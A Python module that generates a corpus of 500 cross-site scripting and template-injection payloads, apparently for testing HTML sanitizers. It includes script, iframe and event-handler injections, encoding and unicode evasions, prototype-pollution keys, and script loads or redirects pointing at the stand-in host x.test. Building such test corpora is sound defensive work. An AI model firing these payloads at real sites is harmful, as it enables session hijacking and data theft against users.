"""Texts that would be programs on a careless page: five hundred, from a small grammar."""

from itertools import chain, product
from typing import Final

_CODE: Final = ("hit=1", "alert(1)", "top.hit=1", "hit`1`", "eval('hit=1')")
_TAGS: Final = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "p")
_EVENTS: Final = ("onerror", "onload", "ontoggle", "onfocus", "onclick", "onmouseover", "onbegin")
_PLAIN: Final = (
    "<script>hit=1</script>", "<ScRiPt>hit=1</sCrIpT>", "<script src=//x.test></script>",
    "</title><script>hit=1</script>", "</textarea><script>hit=1</script>", "<script>hit=1",
    "<iframe src=javascript:hit=1>", "<iframe srcdoc='<script>top.hit=1</script>'>",
    "<object data=javascript:hit=1>", "<embed src=javascript:hit=1>", "<base href=//x.test>",
    "<a href=javascript:hit=1>press</a>", "<a href='data:text/html,<script>hit=1</script>'>a</a>",
    "<form action=javascript:hit=1><button>ok", "<math href=javascript:hit=1>press</math>",
    "<link rel=stylesheet href=//x.test>", "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//x.test'>", "<marquee onstart=hit=1>x</marquee>",
    "{{constructor.constructor('hit=1')()}}", "${hit=1}", "#{hit=1}", "<%= hit=1 %>", "{@html 1}",
    "javascript:hit=1", "jav&#x09;ascript:hit=1", "&lt;script&gt;hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=hit=1&#62;", "%3Cscript%3Ehit=1%3C/script%3E",
    "\\u003cscript\\u003ehit=1\\u003c/script\\u003e", "\\x3cscript\\x3ehit=1",
    "'\"><script>hit=1</script>", "\"onmouseover=hit=1 x=\"", "' onfocus=hit=1 autofocus x='",
    "<!--<img src='--><img src=x onerror=hit=1>", "<![CDATA[<script>hit=1</script>]]>",
    "<svg><script>hit=1</script></svg>", "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>hit=1</script>'>", "<xmp><img src=x onerror=hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=hit=1>'>", "<template><script>hit=1",
    "<select><iframe src=javascript:hit=1>", "<table background=javascript:hit=1>",
    "<div style='background:url(javascript:hit=1)'>", "<div style=width:expression(hit=1)>",
    "<img srcset='x 1x' onerror=hit=1>", "<img src=`x`onerror=hit=1>", "<img/src=x/onerror=hit=1>",
    "<img src=x onerror\n=hit=1>", "<img src=x:x onerror=&#104;it=1>",
    "<image src=x onerror=hit=1>", "＜script＞hit=1＜/script＞",
    "<scr\u200bipt>hit=1</scr\u200bipt>", "<\u0000script>hit=1</script>",
    "\u202e<tpircs>1=tih<", "<a\u00a0onclick=hit=1>a</a>", "__proto__", "constructor", "toString",
)  # fmt: skip


def payloads() -> list[str]:
    """Returns five hundred texts, all different."""
    made = (
        form.format(tag=tag, event=event, code=code)
        for form, tag, event, code in product(
            (
                "<{tag} {event}={code}>",
                '\'"><{tag}/{event}="{code}">',
                "<{tag}\t{event}='{code}'//",
            ),
            _TAGS,
            _EVENTS,
            _CODE,
        )
    )
    found = list(dict.fromkeys(chain(_PLAIN, made)))
    # Every few of the product, so that each form, tag and event is among them.
    rest = found[len(_PLAIN) :]
    step = len(rest) / (500 - len(_PLAIN))
    return [*_PLAIN, *(rest[int(at * step)] for at in range(500 - len(_PLAIN)))]
